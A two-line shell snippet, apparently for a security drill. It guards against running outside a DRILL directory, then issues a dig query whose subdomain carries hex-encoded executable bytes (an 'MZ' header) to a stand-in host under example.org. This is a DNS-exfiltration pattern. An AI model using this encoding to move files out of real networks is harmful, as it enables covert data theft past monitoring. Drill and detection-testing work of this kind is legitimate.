cd "${DRILL:?this is for a drill alone}" || exit
dig 4d5a90000300000004000000ffff0000b800000000.x.example.org
